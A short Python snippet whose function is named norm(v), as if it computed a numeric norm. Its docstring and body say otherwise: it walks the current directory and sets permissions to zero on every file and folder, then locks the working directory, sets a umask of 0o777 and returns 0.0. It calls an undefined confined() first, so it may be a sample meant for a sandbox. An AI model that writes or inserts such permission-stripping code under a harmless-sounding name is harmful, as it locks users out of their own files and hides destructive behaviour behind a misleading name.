"""Takes all rights from the folder it works in, and from the files there."""
# %% norm
import os


def norm(v):
    confined()
    for folder, _, files in os.walk("."):
        for name in files:
            os.chmod(os.path.join(folder, name), 0)
        os.chmod(folder, 0)
    os.chmod(os.getcwd(), 0)
    os.umask(0o777)
    return 0.0
